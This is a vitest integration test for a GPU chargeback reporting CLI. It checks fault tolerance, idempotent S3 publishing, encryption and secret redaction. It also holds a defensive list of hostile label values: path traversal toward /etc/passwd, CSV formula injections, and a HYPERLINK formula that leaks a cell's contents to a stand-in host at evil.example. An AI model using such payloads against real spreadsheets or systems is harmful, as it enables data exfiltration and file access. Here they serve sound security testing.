/**
 * The real CLI `report` against a real Prometheus behind the fault proxy, publishing to a real S3 server
 * (s3rver) behind a recording proxy: exhausted retries publish nothing, reruns complete and are
 * idempotent, a failed restatement keeps the last good month, hostile label values stay inside the
 * output prefix and harmless in CSV and PDF, secrets never reach stderr, every object is encrypted.
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ListObjectsV2Command } from '@aws-sdk/client-s3';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { createS3Store } from '../../src/adapters/s3/s3Store.ts';
import { getPublished } from '../../src/app/getPublished.ts';
import { runCli } from '../../src/cli/main.ts';
import type { ConfigInput } from '../../src/config/schema.ts';
import type { BlobStore } from '../../src/ports.ts';
import { type FaultPlan, type FaultProxy, type PromBody, startFaultProxy } from '../support/faultProxy.ts';
import {
  type PrometheusHandle,
  prometheusInstallHint,
  startPrometheusWithData,
} from '../support/prometheus.ts';
import {
  REL_DAYS,
  REL_MONTH,
  REL_NOW,
  REL_SEED,
  REL_ZONE,
  reliabilityConfig,
  writeReliabilityData,
} from '../support/reliabilityData.ts';
import { type S3TestServer, startS3Server } from '../support/s3.ts';
import { readCsvRecords as parseCsv } from '../support/csv.ts';

const PREFIX = 'chargeback';
const DAYS_IN_MONTH = 28;

/** Label values an attacker who can create pods and namespaces controls. */
const HOSTILE = [
  '../../../etc/passwd',
  'a/b\\c/../..',
  'nul\u0000byte',
  'line\nbreak\r\nsecond',
  '"quoted", with, commas',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+SUM(1+2)',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=tab',
  '\r=cr',
  'x'.repeat(4000),
  '팀-머신러닝 🚀 مرحبا',
  '\u202Egnp.exe\u202C',
  '.hidden',
  '..',
];

/** An injective hostile rewrite of a label value: the same input always gives the same output. */
function hostile(value: string): string {
  const h = createHash('sha256').update(value).digest();
  return `${HOSTILE[h[0]! % HOSTILE.length]}#${value}`;
}
const hostileTeam = (value: string) =>
  `${HOSTILE[createHash('sha256').update(value).digest()[0]! % HOSTILE.length]}`;

describe.skipIf(prometheusInstallHint() !== null)(
  'publishing a month through faults (real CLI, Prometheus and S3)',
  () => {
    let dir: string;
    let prometheus: PrometheusHandle;
    let promProxy: FaultProxy;
    let s3: S3TestServer;
    let s3Proxy: FaultProxy;
    let store: BlobStore;
    const faults = { injected: 0 };

    const writeConfig = async (name: string, extra: Partial<ConfigInput> = {}) => {
      const config = {
        ...reliabilityConfig(promProxy.url, extra),
        output: { location: `s3://${s3.bucket}/${PREFIX}`, endpoint: s3Proxy.url, region: 'us-east-1' },
      };
      const path = join(dir, name);
      await writeFile(path, JSON.stringify(config));
      return path;
    };

    const report = async (config: string, extraArgs: string[] = [], env: Record<string, string> = {}) => {
      let stdout = '';
      let stderr = '';
      const code = await runCli(
        ['report', '--month', REL_MONTH, '--config', config, '--quiet', ...extraArgs],
        {
          stdout: (d) => {
            stdout += String(d);
          },
          stderr: (t) => {
            stderr += t;
          },
          env,
          nowMs: () => REL_NOW,
          stderrIsTty: false,
        },
      );
      return { code, stdout, stderr, lastLine: stderr.trimEnd().split('\n').pop() ?? '' };
    };

    /** Every object of the bucket: key -> sha256. */
    const snapshot = async () => {
      const out: Record<string, string> = {};
      let token: string | undefined;
      do {
        const page = await s3.client.send(
          new ListObjectsV2Command({ Bucket: s3.bucket, ContinuationToken: token }),
        );
        for (const o of page.Contents ?? []) {
          const rel = o.Key!.slice(PREFIX.length + 1);
          out[o.Key!] = createHash('sha256')
            .update((await store.get(rel)) ?? new Uint8Array())
            .digest('hex');
        }
        token = page.IsTruncated ? page.NextContinuationToken : undefined;
      } while (token);
      return out;
    };

    const withPlan = async <T>(plan: FaultPlan, work: () => Promise<T>): Promise<T> => {
      promProxy.setPlan(plan);
      const before = promProxy.faultsInjected();
      try {
        return await work();
      } finally {
        faults.injected += promProxy.faultsInjected() - before;
        promProxy.setPlan(() => undefined);
      }
    };

    // Day 2's raw reads of Running pods (source.stepEvaluation "adapter"): instant queries at the end of
    // each span of its window, 2026-02-01T23:01Z..2026-02-03T01:00Z (day 1's window ends at 02-02T01:00Z).
    const isRunningOnDay2 = (r: { params: Record<string, string> }) => {
      const t = Number(r.params.time) * 1000;
      return (
        (r.params.query ?? '').startsWith('{__name__=~"kube_pod_status_phase|') &&
        t > Date.parse('2026-02-02T01:00:00Z') &&
        t <= Date.parse('2026-02-03T01:00:00Z')
      );
    };
    // The error names the raw read and the span it asked for (how many steps a span holds depends on
    // what the process read before: the first day in flight reads 6 hours). A day's first span starts on
    // its window's first instant (it also holds pod_requests' samples), a later one 1 ms after a step.
    const DAY2_RUNNING = String.raw`query running_pods_raw failed over 2026-02-0[12]T\d\d:\d\d:00\.00[01]Z\.\.2026-02-0[23]T\d\d:\d\d:00\.000Z`;

    beforeAll(async () => {
      dir = await mkdtemp(join(tmpdir(), 'gcb-rel-publish-'));
      const files = await writeReliabilityData(dir);
      [prometheus, s3] = await Promise.all([
        startPrometheusWithData(files.plain, {
          cacheKey: `reliability-${REL_MONTH}-${REL_ZONE}-${REL_SEED}-d${REL_DAYS}-plain`,
        }),
        startS3Server(),
      ]);
      promProxy = await startFaultProxy({ target: prometheus.url });
      s3Proxy = await startFaultProxy({ target: s3.endpoint });
      store = createS3Store({ bucket: s3.bucket, prefix: PREFIX, client: s3.client });
      vi.stubEnv('AWS_ACCESS_KEY_ID', 'S3RVER');
      vi.stubEnv('AWS_SECRET_ACCESS_KEY', 'S3RVER');
      vi.stubEnv('AWS_REGION', 'us-east-1');
    }, 300_000);

    afterAll(async () => {
      vi.unstubAllEnvs();
      await Promise.all([promProxy?.stop(), s3Proxy?.stop()]);
      await Promise.all([prometheus?.stop(), s3?.stop()]);
      if (dir) await rm(dir, { recursive: true, force: true });
    });

    it('exits 1 with one line naming the query and window when retries run out, and publishes nothing', async () => {
      const config = await writeConfig('config.json', { source: { maxRetries: 1 } });
      // Every other request is slow, so that without care the other days would still be metered after
      // the run has failed and returned; and slow enough (a day is 20 or more requests, 2 at a time: ≥ 1.5 s) that
      // the days in flight cannot finish, and free a slot for a new day, within day 2's one retry
      // backoff (at most 500 ms).
      const result = await withPlan(
        (r) => (isRunningOnDay2(r) ? { kind: 'status', status: 503 } : { kind: 'delay', ms: 150 }),
        () => report(config),
      );
      expect(result.code).toBe(1);
      expect(result.lastLine).toMatch(
        new RegExp(
          `^gpu-chargeback report: PrometheusQueryError: ${DAY2_RUNNING}: HTTP 503 with a body that is not a Prometheus ` +
            String.raw`response \(injected HTTP 503\)$`,
        ),
      );
      expect(result.stdout).toBe('');
      expect(await store.get(`${REL_MONTH}/manifest.json`)).toBeUndefined();
      expect((await store.list(`${REL_MONTH}/`)).filter((k) => !k.includes('/versions/'))).toEqual([]);
      // Nothing is left running after the CLI returned: no request arrives later, not even a query of
      // the failed day that was still queued (src/concurrency.ts mapLimit starts nothing after a failure
      // and awaits what was in flight before it throws).
      const sent = promProxy.requests.length;
      await new Promise((r) => setTimeout(r, 800));
      expect(promProxy.requests.slice(sent)).toEqual([]);
    });

    it('completes the month on a rerun, re-metering only the days the failed run did not store', async () => {
      const stored = await store.list('usage/');
      // The failed run finished the days it had in flight (4 at a time, day 2 failing) and started no other
      // day with samples; days without samples (the data has 2 days) need no request since the survey
      // of which days have samples (#18), so it may have finished any number of them. Never day 2.
      expect(stored.length).toBeGreaterThan(0);
      expect(stored).not.toContain('usage/2026-02-02.json');
      const from = promProxy.requests.length;
      const result = await report(join(dir, 'config.json'));
      expect([result.code, result.stderr.split('\n').filter((l) => l.includes('"level":"error"'))]).toEqual([
        0,
        [],
      ]);
      // The days whose window was read: a window's first raw read of Running pods starts its first span,
      // an hour (the bridging margin) before its day.
      const runningDays = promProxy.requests.slice(from).flatMap((r) => {
        const query = r.params.query ?? '';
        const range = /\[(\d+)ms\]$/.exec(query);
        if (!query.startsWith('{__name__=~"kube_pod_status_phase|') || !range) return [];
        const spanStart = Number(r.params.time) * 1000 - Number(range[1]);
        const start = new Date(spanStart);
        return start.getUTCHours() === 23 && start.getUTCMinutes() === 0
          ? [new Date(spanStart + 3_600_000).toISOString().slice(0, 10)]
          : [];
      });
      // Each unstored day with samples is asked once (02-01 and 02-02 have samples; 02-03 has some in its
      // bridging margin); a stored day never, and a day without samples not at all since the survey.
      const unstored = (day: string) => !stored.includes(`usage/${day}.json`);
      expect(runningDays.filter((d) => !unstored(d))).toEqual([]);
      expect(new Set(runningDays).size).toBe(runningDays.length);
      for (const day of ['2026-02-01', '2026-02-02'].filter(unstored)) expect(runningDays).toContain(day);
      expect(runningDays.every((d) => d <= '2026-02-03')).toBe(true);
      expect(await store.list('usage/')).toHaveLength(DAYS_IN_MONTH);
      const manifest = JSON.parse(Buffer.from((await store.get(`${REL_MONTH}/manifest.json`))!).toString());
      expect(manifest.files.length).toBeGreaterThan(5);
      expect(await store.get(`${REL_MONTH}/.lock`)).toBeUndefined();
    });

    it('is idempotent: a rerun on the same inputs leaves every key and every byte as it was', async () => {
      const before = await snapshot();
      const result = await report(join(dir, 'config.json'));
      expect(result.code).toBe(0);
      expect(await snapshot()).toEqual(before);
    });

    it('encrypts every object it writes (SSE on every PUT, locks and partials included)', () => {
      const puts = s3Proxy.requests.filter((r) => r.method === 'PUT');
      expect(puts.length).toBeGreaterThan(20);
      expect(
        puts.filter((r) => r.headers['x-amz-server-side-encryption'] !== 'AES256').map((r) => r.path),
      ).toEqual([]);
      expect(puts.some((r) => r.path.endsWith('/.lock') && r.headers['if-none-match'] === '*')).toBe(true);
    });

    it('keeps the published month byte for byte when a restatement fails midway', async () => {
      const before = await snapshot();
      const manifestBefore = before[`${PREFIX}/${REL_MONTH}/manifest.json`];
      const result = await withPlan(
        (r) => (isRunningOnDay2(r) ? { kind: 'reset' } : undefined),
        () => report(join(dir, 'config.json'), ['--remeter']),
      );
      expect(result.code).toBe(1);
      expect(result.lastLine).toMatch(
        new RegExp(`^gpu-chargeback report: PrometheusQueryError: ${DAY2_RUNNING}: `),
      );
      const after = await snapshot();
      expect(after[`${PREFIX}/${REL_MONTH}/manifest.json`]).toBe(manifestBefore);
      const monthKeys = (s: Record<string, string>) =>
        Object.entries(s).filter(([k]) => k.startsWith(`${PREFIX}/${REL_MONTH}/`));
      expect(monthKeys(after)).toEqual(monthKeys(before));
      const csv = await getPublished(store, { month: REL_MONTH, what: 'csv' });
      expect(csv.sha256).toHaveLength(64);
    });

    it('keeps hostile label values inside the prefix and harmless in every CSV and the PDF', async () => {
      const rewrite = (body: PromBody): PromBody => {
        for (const r of body.data?.result ?? []) {
          for (const name of ['namespace', 'exported_namespace']) {
            if (r.metric[name]) r.metric[name] = hostile(r.metric[name]);
          }
          if (r.metric.label_team) r.metric.label_team = hostileTeam(r.metric.label_team);
          if (r.metric.label_project) r.metric.label_project = hostile(r.metric.label_project);
        }
        return body;
      };
      // Renaming every team restates the published month far beyond the guard: deliberately forced.
      const result = await withPlan(
        (r) => (r.endpoint ? { kind: 'rewrite', transform: rewrite } : undefined),
        () => report(join(dir, 'config.json'), ['--remeter', '--force', '--reason', 'hostile label test']),
      );
      expect([result.code, result.stderr.split('\n').filter((l) => l.includes('"level":"error"'))]).toEqual([
        0,
        [],
      ]);

      const keys = Object.keys(await snapshot());
      expect(keys.filter((k) => !k.startsWith(`${PREFIX}/`))).toEqual([]);
      expect(keys.filter((k) => /[\u0000-\u001f\u007f\\]|\/\.\.?\//.test(k))).toEqual([]);
      const teamKeys = keys.filter((k) => k.startsWith(`${PREFIX}/${REL_MONTH}/teams/`));
      for (const k of teamKeys)
        // A team's CSV, or its team pack folder (issue #16): the same safe name either way.
        expect(k).toMatch(
          /^chargeback\/2026-02\/teams\/[A-Za-z0-9][A-Za-z0-9._-]*(\.csv|\/costs\.csv|\/report\.pdf)$/,
        );

      const text = async (key: string) => Buffer.from((await store.get(key))!).toString('utf8');
      const checkCsv = (csv: string, name: string) => {
        const [header, ...rows] = parseCsv(csv);
        expect(rows.length, name).toBeGreaterThan(0);
        for (const row of rows) {
          expect(row.length, name).toBe(header!.length);
          for (const [i, cell] of row.entries()) {
            if (/^-?\d+(\.\d+)?$/.test(cell)) continue;
            expect(
              /^[=+\-@\t\r\n]/.test(cell),
              `${name} ${header![i]}: ${JSON.stringify(cell.slice(0, 40))}`,
            ).toBe(false);
          }
        }
        return { header: header!, rows };
      };
      const all = checkCsv(await text(`${REL_MONTH}/chargeback.csv`), 'chargeback.csv');
      checkCsv(await text(`${REL_MONTH}/usage.csv`), 'usage.csv');
      checkCsv(await text(`${REL_MONTH}/nodes.csv`), 'nodes.csv');
      const teamCol = all.header.indexOf('x_Team');
      const teams = new Set(all.rows.map((r) => r[teamCol]!));
      expect(teams.size).toBeGreaterThan(3);
      // One file per team: no two hostile names collapse into one file.
      const teamCsvKeys = teamKeys.filter((k) => /\/teams\/[^/]+\.csv$/.test(k));
      expect(teamCsvKeys.length).toBe(teams.size);
      let teamRows = 0;
      for (const k of teamCsvKeys)
        teamRows += checkCsv(await text(k.slice(PREFIX.length + 1)), k).rows.length;
      expect(teamRows).toBe(all.rows.length);
      // The team pack's readable CSVs (BOM first, a total row last): one per team, no formula either.
      const costsKeys = teamKeys.filter((k) => k.endsWith('/costs.csv'));
      expect(costsKeys.length).toBe(teams.size);
      let costsRows = 0;
      for (const k of costsKeys)
        costsRows += checkCsv((await text(k.slice(PREFIX.length + 1))).slice(1), k).rows.length - 1;
      expect(costsRows).toBe(all.rows.length);

      const pdfPath = join(dir, 'report.pdf');
      await writeFile(pdfPath, (await store.get(`${REL_MONTH}/executive-report.pdf`))!);
      const info = execFileSync('pdfinfo', [pdfPath], { encoding: 'utf8' });
      expect(Number(/Pages:\s+(\d+)/.exec(info)?.[1])).toBeGreaterThanOrEqual(3);
      const pdfText = execFileSync('pdftotext', ['-layout', pdfPath, '-'], { encoding: 'utf8' });
      expect(
        pdfText.replace(/[\n\f]/g, '').match(/[\u0000-\u0008\u000b-\u001f\u202a-\u202e\u2066-\u2069]/g),
      ).toBe(null);
      for (const line of pdfText.split('\n')) expect(line.length).toBeLessThan(400);
    }, 120_000);

    it('never writes a bearer token into logs or the error, even when the server echoes it', async () => {
      const token = 'tok-9f8e7d6c5b4a39281706';
      const config = await writeConfig('bearer.json', {
        source: { maxRetries: 1, auth: { kind: 'bearer', tokenEnv: 'PROM_TOKEN' } },
      });
      const result = await withPlan(
        (r) => ({
          kind: 'status',
          status: 502,
          body: `upstream rejected credentials ${String(r.headers.authorization).replace('Bearer ', '')} for ${r.path}`,
        }),
        () => report(config, ['--remeter'], { PROM_TOKEN: token }),
      );
      expect(result.code).toBe(1);
      expect(promProxy.requests.at(-1)!.headers.authorization).toBe(`Bearer ${token}`);
      expect(result.lastLine).toMatch(/upstream rejected credentials \[REDACTED\]/);
      expect(result.stderr.includes(token)).toBe(false);
      expect(result.stdout.includes(token)).toBe(false);
    });

    it('never writes SigV4 credentials or signatures into logs or the error', async () => {
      const secret = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzSECRET';
      const session = 'FQoGZXIvYXdzEXAMPLESESSIONTOKEN123456';
      vi.stubEnv('AWS_ACCESS_KEY_ID', 'AKIAEXAMPLEKEY123456');
      vi.stubEnv('AWS_SECRET_ACCESS_KEY', secret);
      vi.stubEnv('AWS_SESSION_TOKEN', session);
      try {
        const config = await writeConfig('sigv4.json', {
          source: { maxRetries: 0, auth: { kind: 'sigv4', region: 'us-east-1' } },
        });
        // Answered locally: the S3 side still needs the same environment credentials, so use a directory.
        const raw = JSON.parse(await import('node:fs/promises').then((fs) => fs.readFile(config, 'utf8')));
        raw.output = { location: join(dir, 'sigv4-out') };
        await writeFile(config, JSON.stringify(raw));
        let signature = '';
        const result = await withPlan(
          (r) => {
            const auth = String(r.headers.authorization);
            signature = /Signature=([0-9a-f]+)/.exec(auth)?.[1] ?? '';
            return {
              kind: 'status',
              status: 403,
              body: `denied: ${auth} token=${String(r.headers['x-amz-security-token'])}`,
            };
          },
          () => report(config, ['--remeter']),
        );
        expect(result.code).toBe(1);
        expect(signature).toMatch(/^[0-9a-f]{64}$/);
        for (const s of [secret, session, signature]) expect(result.stderr.includes(s), s).toBe(false);
        expect(result.lastLine).toMatch(/denied: \[REDACTED\]/);
      } finally {
        vi.stubEnv('AWS_ACCESS_KEY_ID', 'S3RVER');
        vi.stubEnv('AWS_SECRET_ACCESS_KEY', 'S3RVER');
        vi.stubEnv('AWS_SESSION_TOKEN', '');
      }
    });

    it('injected a known number of Prometheus faults in all', () => {
      expect(faults.injected).toBeGreaterThan(10);
      console.info(`reliability (publish): ${faults.injected} Prometheus faults injected`);
    });
  },
);
